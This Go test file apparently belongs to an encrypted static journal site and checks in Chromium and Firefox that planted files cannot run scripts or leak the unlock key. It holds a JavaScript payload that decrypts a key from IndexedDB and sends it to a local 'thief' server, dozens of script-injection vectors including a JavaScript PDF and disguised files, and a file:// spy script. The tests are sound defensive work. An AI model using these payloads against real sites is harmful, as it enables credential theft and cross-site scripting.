package main

import (
	"bytes"
	"fmt"
	"io/fs"
	"maps"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	cdpbrowser "github.com/chromedp/cdproto/browser"
	"github.com/chromedp/chromedp"

	"journal/generator/generatortest/browser"
	"journal/generator/media"
	"journal/layouts"
)

// thief is another website, to which scripts bring what they find.
type thief struct {
	url string

	mu   sync.Mutex
	loot map[string]string // who came, and what it had
}

func newThief(t *testing.T) *thief {
	t.Helper()
	th := &thief{loot: map[string]string{}}
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		switch r.URL.Path {
		case "/take":
			th.mu.Lock()
			defer th.mu.Unlock()
			th.loot[r.URL.Query().Get("who")] = r.URL.Query().Get("key")
		case "/robber.js": // for a page that has another base
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprint(w, robber(th.url, "script of the other base"))
		}
	}))
	t.Cleanup(server.Close)
	th.url = server.URL + "/"
	return th
}

// taken returns what came since the last time.
func (th *thief) taken() map[string]string {
	th.mu.Lock()
	defer th.mu.Unlock()
	loot := th.loot
	th.loot = map[string]string{}
	return loot
}

// robber is a script that leaves a mark in its origin, decrypts the key that the
// lock keeps there, and leaves for the thief with it.
func robber(thief, who string) string {
	return fmt.Sprintf(`(async () => {
	const who = %q
	const mark = () => caches.open("loot").then(c => c.put("/loot/" + encodeURIComponent(who), new Response("")), () => {})
	const key = new Promise((done, fail) => {
		const asked = indexedDB.open("lock:/repo/")
		asked.onupgradeneeded = () => { asked.transaction.abort(); fail() }
		asked.onerror = fail
		asked.onsuccess = () => {
			const get = asked.result.transaction("lock").objectStore("lock").get("state")
			get.onerror = fail
			get.onsuccess = async () => {
				try {
					const kept = get.result
					done(new TextDecoder().decode(await crypto.subtle.decrypt({ name: "AES-GCM", iv: kept.iv }, kept.key, kept.sealed)))
				} catch (err) { fail(err) }
			}
		}
	}).catch(() => "nothing")
	const found = self.indexedDB ? await Promise.race([key, new Promise(done => setTimeout(done, 3000, "nothing"))]) : "nothing"
	try { await mark() } catch {}
	const to = %q + "take?who=" + encodeURIComponent(who) + "&key=" + encodeURIComponent(found.slice(0, 40))
	if (self.document) {
		try { top.location.replace(to) } catch { location.replace(to) }
	} else fetch(to, { mode: "no-cors" }).catch(() => {})
})()
`, who, thief)
}

// trap is a file that somebody put beside the notes, and what it brings along.
type trap struct {
	what  string
	name  string            // the file that a reader opens
	files map[string]string // with those it needs
	sure  string            // who comes to the thief where nothing is forbidden; "" where a browser may know better
}

// traps are all ways to get a script to run that its writer could think of,
// under names of chance in a folder.
func traps(rng *rand.Rand, folder, thief string) []trap {
	word := func() string {
		letters := []byte("abcdefghijkmnopqrstuvwxyz")
		rng.Shuffle(len(letters), func(i, j int) { letters[i], letters[j] = letters[j], letters[i] })
		return string(letters[:4+rng.IntN(5)])
	}
	var all []trap
	add := func(what, name, text string, sure bool, files map[string]string) {
		tr := trap{what: what, name: path.Join(folder, name), files: map[string]string{}}
		for n, text := range files {
			tr.files[path.Join(folder, n)] = text
		}
		tr.files[tr.name] = text
		if sure {
			tr.sure = what
		}
		all = append(all, tr)
	}
	rob := func(what string) string { return robber(thief, what) }
	head := "<!doctype html><meta charset=\"utf-8\"><title>Saved</title>"
	// with adds a page that loads a script by a piece of markup, in which it is called SRC.
	with := func(what, ext, markup, scriptExt string) {
		script := word() + scriptExt
		add(what, word()+ext, strings.ReplaceAll(markup, "SRC", script), true, map[string]string{script: rob(what)})
	}
	with("a page", ".html", head+`<script src="SRC"></script>`, ".js")
	with("a page with a module", ".html", head+`<script type="module" src="SRC"></script>`, ".mjs")
	with("a page of another ending", ".htm", head+`<script src="SRC"></script>`, "."+word())
	with("a page in capitals", ".HTML", head+`<script src="SRC"></script>`, ".JS")
	with("XHTML", ".xhtml", `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Saved</title><script src="SRC"></script></head><body/></html>`, ".js")
	with("SVG", ".svg", `<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><rect width="8" height="8" fill="#197037"/><script href="SRC"/></svg>`, ".js")
	with("SVG with a page in it", ".svg", `<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><foreignObject width="8" height="8"><script xmlns="http://www.w3.org/1999/xhtml" src="SRC"></script></foreignObject></svg>`, ".js")
	with("XML", ".xml", `<?xml version="1.0"?><note><script xmlns="http://www.w3.org/1999/xhtml" src="SRC"></script></note>`, ".js")
	with("a folder's page", "/index.html", head+`<script src="../SRC"></script>`, ".js")
	with("a frame by srcdoc", ".html", head+`<iframe srcdoc="&lt;script src='SRC'>&lt;/script>"></iframe>`, ".js")

	inner := func(what, markup string) {
		page, script := word()+".html", word()+".js"
		add(what, word()+".html", head+strings.ReplaceAll(markup, "SRC", page), true,
			map[string]string{page: head + `<script src="` + script + `"></script>`, script: rob(what)})
	}
	inner("a page in a frame", `<iframe src="SRC"></iframe>`)
	inner("a page in an object", `<object data="SRC" type="text/html" width="9" height="9"></object>`)
	inner("a page in an embed", `<embed src="SRC" type="text/html" width="9" height="9">`)
	picture, pictureScript := word()+".svg", word()+".js"
	add("SVG in an object", word()+".html", head+`<object data="`+picture+`" type="image/svg+xml" width="9" height="9"></object>`, true,
		map[string]string{picture: `<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><script href="` + pictureScript + `"/></svg>`, pictureScript: rob("SVG in an object")})

	sheet, sheetScript := word()+".xsl", word()+".js"
	add("XML with XSLT", word()+".xml", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="`+sheet+`"?><note/>`, false, map[string]string{
		sheet: `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:output method="html"/><xsl:template match="/"><html><head><script src="` + sheetScript + `"></script></head></html></xsl:template></xsl:stylesheet>`, sheetScript: rob("XML with XSLT")})

	// by is a page whose script starts another one in some way. The page's own is quiet.
	by := func(what, ext, start string, sure bool) {
		first, second := word()+".js", word()+ext
		add(what, word()+".html", head+`<script src="`+first+`"></script>`, sure, map[string]string{first: strings.ReplaceAll(start, "SRC", second), second: rob(what)})
	}
	by("a worker", ".js", `new Worker("SRC")`, true)
	by("a worker of modules", ".mjs", `new Worker("SRC", { type: "module" })`, true)
	by("a shared worker", ".js", `new SharedWorker("SRC")`, true)
	by("a service worker", ".js", `navigator.serviceWorker.register("SRC")`, true)
	by("a script that is imported", ".js", `import("./SRC")`, true)
	by("a page made of bytes", ".js", `location = URL.createObjectURL(new Blob(["<script src='" + new URL("SRC", document.baseURI) + "'><\/script>"], { type: "text/html" }))`, true)
	by("a worker made of bytes", ".js", `new Worker(URL.createObjectURL(new Blob(["importScripts('" + new URL("SRC", document.baseURI) + "')"], { type: "text/javascript" })))`, true)

	take := thief + "take?who="
	add("a page that goes elsewhere by itself", word()+".html", head+`<meta http-equiv="refresh" content="0; url=`+take+url.QueryEscape("a page that goes elsewhere by itself")+`">`, true, nil)
	add("a base elsewhere", word()+".html", head+`<base href="`+thief+`"><script src="robber.js"></script>`, false, nil)
	add("a page that fetches ahead", word()+".html", head+`<link rel="prefetch" href="`+take+url.QueryEscape("a page that fetches ahead")+`"><link rel="preload" as="image" href="`+take+url.QueryEscape("a page that fetches ahead")+`">`, true, nil)
	add("a form", word()+".html", head+`<form action="`+thief+`take"><input name="who" value="a form"></form><script>document.forms[0].submit()</script>`, true, nil)
	style := word() + ".css"
	add("a style sheet", word()+".html", head+`<link rel="stylesheet" href="`+style+`"><p>text</p>`, true, map[string]string{
		style: `@font-face { font-family: f; src: url("` + take + url.QueryEscape("a style sheet") + `") } p { font-family: f; background: url("` + take + url.QueryEscape("a style sheet") + `") }`})
	inLine := "<script>" + rob("a page with a script in it") + "</script>"
	add("a page with a script in it", word()+".html", head+inLine, true, nil)
	add("SVG with a script in it", word()+".svg", `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[`+rob("SVG with a script in it")+`]]></script></svg>`, true, nil)
	add("a manifest", word()+".webmanifest", `{"name": "x", "start_url": "`+take+`a+manifest", "icons": [{"src": "`+take+`a+manifest", "sizes": "192x192"}]}`, false, nil)
	add("a PDF", word()+".pdf", pdfWithScript(take+"a+PDF"), false, nil)

	// Pages in disguise, with the endings of everything else and with none.
	for _, ext := range []string{"", "." + word(), ".txt", ".csv", ".json", ".ics", ".png", ".jpg", ".mp4", ".mp3", ".woff2", ".pdf", ".zip", ".css", ".js", ".mjs", ".wasm", ".shtml", ".mht", ".xsl", ".rss", ".rdf"} {
		script := word() + ".js"
		what := "a page that ends in " + ext
		add(what, word()+ext, head+`<script src="`+script+`"></script>`, false, map[string]string{script: rob(what)})
	}
	return all
}

// pdfWithScript is a PDF that goes to an address as soon as it is opened.
func pdfWithScript(address string) string {
	return pdf("/OpenAction << /S /JavaScript /JS (app.launchURL\\(\""+address+"\", false\\); this.submitForm\\(\""+address+"\"\\);) >>", "")
}

// redPDF is a red sheet.
func redPDF() string { return pdf("", "1 0 0 rg 0 0 200 200 re f") }

// pdf is one of a single sheet, with more in its catalog and what is drawn.
func pdf(catalog, drawn string) string {
	var b bytes.Buffer
	objects := []string{
		"<< /Type /Catalog /Pages 2 0 R " + catalog + " >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
		fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", len(drawn), drawn),
	}
	b.WriteString("%PDF-1.7\n")
	places := make([]int, len(objects))
	for i, o := range objects {
		places[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	start := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objects)+1)
	for _, at := range places {
		fmt.Fprintf(&b, "%010d 00000 n \n", at)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, start)
	return b.String()
}

// trapped is a folder of notes in which somebody has saved all traps, and files
// with the names of our own scripts.
func trapped(t *testing.T, thief string) (content string, all []trap) {
	t.Helper()
	seed := uint64(time.Now().UnixNano())
	t.Logf("seed %d", seed)
	content = t.TempDir()
	all = traps(rand.New(rand.NewPCG(seed, 0)), "interviews/saved", thief)
	note := "---\ncompany: Northwind Robotics\ndate: 2026-03-04\n---\n\nThe offer is ninety thousand.\n\n"
	for _, tr := range all {
		for name, text := range tr.files {
			put(t, filepath.Join(content, filepath.FromSlash(name)), text)
		}
		at, _ := strings.CutPrefix(tr.name, "interviews/")
		note += fmt.Sprintf("[%s](%s) ![%s](%s)\n\n", tr.what, at, tr.what, at)
	}
	put(t, filepath.Join(content, "interviews", "2026-03-04-northwind.md"), note)
	for _, name := range []string{"sw.js", "journal.js", "keys.js", "search.js", "style.css", "index.html", "404.html", "timeline.html", "lock/tab.js", "lock/vault.js", "lock/unlock.js", "key.age", "index.age",
		"interviews/journal.js", "interviews/keys.js", "interviews/lock/tab.js"} {
		put(t, filepath.Join(content, filepath.FromSlash(name)), robber(thief, "a file that is called "+name))
	}
	return content, all
}

// robbed opens every trap as a reader would who follows a link on a page of the
// site, and returns who came to the thief and what it had. With sure, only traps
// that have to work are opened, and waited for.
func robbed(b *tab, th *thief, all []trap, sure bool) map[string]string {
	b.t.Helper()
	loot := map[string]string{}
	for _, tr := range all {
		if sure && tr.sure == "" {
			continue
		}
		b.home()
		b.follow(tr.name)
		wait := 300 * time.Millisecond
		if sure {
			wait = 20 * time.Second
		}
		for end := time.Now().Add(wait); time.Now().Before(end); time.Sleep(10 * time.Millisecond) {
			maps.Copy(loot, th.taken())
			if _, came := loot[tr.sure]; came {
				break
			}
		}
	}
	b.home()
	marks := b.says(`caches.open("loot").then(c => c.keys()).then(all => all.map(r => decodeURIComponent(new URL(r.url).pathname)).join("\n"))`)
	for who := range strings.SplitSeq(marks, "\n") {
		if who = strings.TrimPrefix(who, "/loot/"); who != "" && loot[who] == "" {
			loot[who] = "nothing"
		}
	}
	maps.Copy(loot, th.taken())
	return loot
}

// follow goes to a file of the site as a link on the page does. The page may be
// gone before it answers.
func (b *tab) follow(name string) {
	b.with.eval(fmt.Sprintf(`void setTimeout(() => { location.href = %q }, 0)`, b.site+(&url.URL{Path: name}).EscapedPath()))
}

// kept fails for everything that got out.
func kept(t *testing.T, where string, loot map[string]string) {
	t.Helper()
	for _, who := range slices.Sorted(maps.Keys(loot)) {
		t.Errorf("%s: %s got out, with %q", where, who, loot[who])
	}
}

// home opens the start page, away from a page that may be on its way elsewhere or
// that a browser's own viewer holds.
func (b *tab) home() {
	b.t.Helper()
	b.with.eval(`void (window.before = true)`) // where that cannot be said, it is another page anyway
	const there = `[document.readyState, window.before, document.querySelector("main h1") !== null && document.title !== "Private page"].join(" ")`
	var err error
	got := ""
	for end := time.Now().Add(longest); time.Now().Before(end); time.Sleep(50 * time.Millisecond) {
		switch d := b.with.(type) {
		case *firefox: // which may wait in vain for such a page to end
			err = d.call("browsingContext.navigate", map[string]any{"context": d.tab, "url": b.site + "index.html", "wait": "none"}, nil)
		default:
			err = b.with.visit(b.site + "index.html")
		}
		if err != nil {
			continue
		}
		// A page that was left may lead elsewhere in the last moment.
		ok := false
		if got, ok = b.within(20*time.Second, there, func(got string) bool { return got == "complete  true" }); ok {
			return
		}
	}
	b.t.Fatalf("opening the start page: %q, %v", got, err)
}

// openHost serves a folder as any server does, with no policy at all: where the
// traps have to work, or they prove nothing.
func openHost(t *testing.T, site fs.FS) string {
	t.Helper()
	kinds := map[string]string{".mjs": "text/javascript", ".js": "text/javascript", ".xhtml": "application/xhtml+xml", ".svg": "image/svg+xml", ".xml": "text/xml", ".xsl": "text/xml"}
	files := http.FileServerFS(site)
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		kind, ok := kinds[strings.ToLower(path.Ext(r.URL.Path))]
		switch {
		case ok:
			w.Header().Set("Content-Type", kind)
		case r.Header.Get("Sec-Fetch-Dest") == "script":
			w.Header().Set("Content-Type", "text/javascript")
		}
		files.ServeHTTP(w, r)
	}))
	t.Cleanup(server.Close)
	return server.URL + "/"
}

// inBoth runs a test in Chromium and in Firefox.
func inBoth(t *testing.T, test func(t *testing.T, with driver)) {
	t.Run("Chromium", func(t *testing.T) {
		t.Parallel()
		c := chromium{browser.Start(t)}
		saved := cdpbrowser.SetDownloadBehaviorParams{Behavior: cdpbrowser.SetDownloadBehaviorBehaviorAllow, DownloadPath: t.TempDir()}
		if err := c.visit("about:blank"); err != nil { // the browser starts with its first tab
			t.Fatal(err)
		}
		if _, err := chromedp.Call(c.ctx, cdpbrowser.SetDownloadBehavior, saved); err != nil {
			t.Fatal(err)
		}
		test(t, c)
	})
	t.Run("Firefox", func(t *testing.T) {
		t.Parallel()
		test(t, startFirefox(t))
	})
}

// sealPassphrase is strong enough for the program.
const sealPassphrase = "orbit velvet canyon ladder mosaic tundra"

// sealedByProgram runs `journal seal` over a folder of notes and gives what it published.
func sealedByProgram(t *testing.T, content string) map[string][]byte {
	t.Helper()
	pass := filepath.Join(t.TempDir(), "passphrase")
	put(t, pass, sealPassphrase+"\n")
	out := filepath.Join(t.TempDir(), "sealed")
	said := runProgram(t, "seal", "--content", content, "--out", out, "--today", "2026-03-05 09:00", "--passphrase-file", pass)
	files := map[string][]byte{}
	err := fs.WalkDir(os.DirFS(out), ".", func(name string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		files[name], err = os.ReadFile(filepath.Join(out, filepath.FromSlash(name)))
		return err
	})
	if err != nil {
		t.Fatalf("%v\n%s", err, said)
	}
	return files
}

// unlocked opens the start page of a sealed site.
func (b *tab) unlocked(stay bool) {
	b.t.Helper()
	b.visit("index.html")
	b.locked()
	b.typed(sealPassphrase, stay)
	b.until(`document.querySelector("main h1") !== null && document.title !== "Private page"`, "true")
}

// TestAssetsRunNowhere opens files that somebody saved beside the notes, in an
// unlocked site and in the preview: none of their scripts runs there, learns the
// key or goes elsewhere.
func TestAssetsRunNowhere(t *testing.T) {
	t.Parallel()
	inBoth(t, func(t *testing.T, with driver) {
		th := newThief(t)
		content, all := trapped(t, th.url)
		site := built(t, content, "2026-03-05 09:00")

		loot := robbed(&tab{t, with, openHost(t, os.DirFS(site))}, th, all, true)
		for _, tr := range all {
			if _, came := loot[tr.sure]; tr.sure != "" && !came {
				t.Errorf("%s does not work even where everything is open: it proves nothing", tr.what)
			}
		}
		if t.Failed() {
			return
		}
		pictures := fmt.Sprintf("complete %d", len(all))
		lock := &tab{t, with, newHost(t, sealedByProgram(t, content)).url}
		lock.unlocked(true)
		for _, b := range []*tab{lock, {t, with, serve(t, content).url}} {
			b.visit("interviews/2026-03-04-northwind.html") // which has all of them as pictures
			b.until(`document.readyState + " " + document.images.length`, pictures)
			kept(t, b.site, robbed(b, th, all, false))
		}
	})
}

// TestAssetsAreNoScripts asks for assets of an unlocked site from a page of its
// origin that no policy binds, as a script, as a worker, as a style sheet, in a
// frame: they are none. Files of the theme and of the journal's own layouts are.
func TestAssetsAreNoScripts(t *testing.T) {
	t.Parallel()
	inBoth(t, func(t *testing.T, with driver) {
		content := filepath.Join(t.TempDir(), "content")
		const script = "self.onconnect = e => e.ports[0].postMessage('it runs')\nif (!self.document) try { postMessage('it runs') } catch {}\n"
		put(t, filepath.Join(content, "..", "layouts", "ours.js"), script)
		put(t, filepath.Join(content, "2026-03-04-northwind.md"), "---\ncompany: Northwind Robotics\ndate: 2026-03-04\n---\n")
		put(t, filepath.Join(content, "saved.html"), "<!doctype html><title>Saved</title>")
		for _, ext := range []string{"js", "mjs", "css", "txt", "json", "qqq"} {
			put(t, filepath.Join(content, "saved."+ext), script)
		}
		b := &tab{t, with, newHost(t, sealedByProgram(t, content)).url}
		b.unlocked(true)
		b.visit("lock/licences.txt")
		const runs = `(async () => {
			const name = %q, done = []
			const element = (tag, set) => new Promise(r => { const e = document.createElement(tag); Object.assign(e, set); e.onload = () => r(true); e.onerror = () => r(false); document.body.append(e) })
			const started = (make) => new Promise(r => { try { const w = make(); w.onerror = () => r(false); (w.port || w).onmessage = () => r(true); setTimeout(() => r(false), 10000) } catch { r(false) } })
			const blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }))
			if (await element("script", { src: "/repo/" + name })) done.push("script")
			if (await element("script", { src: "/repo/" + name, type: "module" })) done.push("module")
			if (await element("link", { href: "/repo/" + name, rel: "stylesheet" })) done.push("style")
			if (await import("/repo/" + name).then(() => true, () => false)) done.push("import")
			if (await started(() => new Worker("/repo/" + name))) done.push("worker")
			if (await started(() => new Worker(blob("importScripts('" + location.origin + "/repo/" + name + "')")))) done.push("importScripts")
			if (await started(() => new SharedWorker("/repo/" + name))) done.push("shared worker")
			if (await navigator.serviceWorker.register("/repo/" + name, { scope: "/repo/nowhere/" }).then(() => true, () => false)) done.push("service worker")
			const frame = document.createElement("iframe")
			frame.src = "/repo/" + name
			await new Promise(r => { frame.onload = r; setTimeout(r, 2000); document.body.append(frame) })
			try { if (frame.contentDocument.URL.endsWith(name) && frame.contentDocument.readyState === "complete" && frame.contentDocument.body.innerText.length >= 0 && !frame.contentDocument.URL.startsWith("about:")) done.push("frame") } catch {}
			return done.join(", ")
		})()`
		for _, ext := range []string{"html", "js", "mjs", "css", "txt", "json", "qqq"} {
			if got := b.says(fmt.Sprintf(runs, "saved."+ext)); got != "" {
				t.Errorf("saved.%s is taken as %s", ext, got)
			}
		}
		for name, want := range map[string]string{"journal.js": "script, module, import", "ours.js": "script, module, import, worker, importScripts, shared worker"} { // of the theme, of the journal's layouts
			if got := b.says(fmt.Sprintf(runs, name)); !strings.HasPrefix(got, want) {
				t.Errorf("%s is taken as %q, want %s, …: the test asks in vain", name, got, want)
			}
		}
	})
}

// TestAssetsFromDisk opens the plain site from file://. Nothing of ours runs an
// asset; one that is opened by itself runs, as every saved page does, and finds
// no key and none of the notes.
func TestAssetsFromDisk(t *testing.T) {
	t.Parallel()
	inBoth(t, func(t *testing.T, with driver) {
		th := newThief(t)
		content, all := trapped(t, th.url)
		put(t, filepath.Join(content, "spy.html"), `<!doctype html><meta charset="utf-8"><script src="spy.js"></script>`)
		put(t, filepath.Join(content, "spy.js"), fmt.Sprintf(`(async () => {
			const read = []
			await fetch("timeline.html").then(r => r.text()).then(text => read.push("fetch " + text.length), () => {})
			await new Promise(done => {
				const asked = new XMLHttpRequest()
				asked.onload = () => { if (asked.responseText) read.push("XMLHttpRequest " + asked.responseText.length); done() }
				asked.onerror = done
				try { asked.open("GET", "timeline.html"); asked.send() } catch { done() }
			})
			const frame = document.createElement("iframe")
			frame.src = "timeline.html"
			await new Promise(done => { frame.onload = done; document.documentElement.append(frame) })
			try { read.push("frame " + frame.contentDocument.body.innerText.length) } catch {}
			location = %q + "take?who=spy&key=" + encodeURIComponent(read.join(", "))
		})()`, th.url))
		site := built(t, content, "2026-03-05 09:00")
		b := &tab{t, with, fileURL(site) + "/"}
		for _, name := range []string{"index.html", "timeline.html", "actions.html", "search.html", "practice.html", "interviews/2026-03-04-northwind.html"} {
			b.visit(name)
			b.until(`document.readyState + " " + (document.querySelector("main h1") !== null)`, "complete true")
			if name == "interviews/2026-03-04-northwind.html" {
				b.until(`document.images.length`, fmt.Sprint(len(all)))
			}
		}
		time.Sleep(300 * time.Millisecond)
		kept(t, "from disk", th.taken())

		b.follow("spy.html")
		found := map[string]string{}
		for end := time.Now().Add(longestWait); len(found) == 0 && time.Now().Before(end); time.Sleep(10 * time.Millisecond) {
			found = th.taken()
		}
		if read, came := found["spy"]; !came || read != "" {
			t.Errorf("a page that is opened from disk: it ran: %t, and read %q", came, read)
		}
	})
}

// TestNobodyHoldsTheWindow lets another website open the unlocked site: it keeps
// no hold of the window, and the site none of its opener.
func TestNobodyHoldsTheWindow(t *testing.T) {
	t.Parallel()
	inBoth(t, func(t *testing.T, with driver) {
		content := t.TempDir()
		put(t, filepath.Join(content, "2026-03-04-northwind.md"), "---\ncompany: Northwind Robotics\ndate: 2026-03-04\n---\n")
		put(t, filepath.Join(content, "drawing.svg"), `<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"/>`)
		b := &tab{t, with, newHost(t, sealedByProgram(t, content)).url}
		b.unlocked(true)
		th := newThief(t)
		open := openHost(t, os.DirFS(built(t, content, "2026-03-05 09:00")))
		if err := with.visit(th.url); err != nil {
			t.Fatal(err)
		}
		for _, name := range []string{"index.html", "drawing.svg"} {
			b.says(fmt.Sprintf(`void (window.ours = open(%q), window.theirs = open(%q))`, b.site+name, open+name))
			b.until(`ours.closed + " " + theirs.closed`, "true false")
		}
	})
}

// TestLockAndPreviewHaveOneRule holds the policies that the service worker has in
// its text against those of the preview.
func TestLockAndPreviewHaveOneRule(t *testing.T) {
	script, err := fs.ReadFile(layouts.Lock(""), "sw.js")
	if err != nil {
		t.Fatal(err)
	}
	for name, kind := range map[string]string{"sandbox": "image/svg+xml", "player": "video/mp4"} {
		if want := "const " + name + ` = "` + media.Policy(kind) + `";`; !strings.Contains(string(script), want) {
			t.Errorf("sw.js lacks %s", want)
		}
	}
}
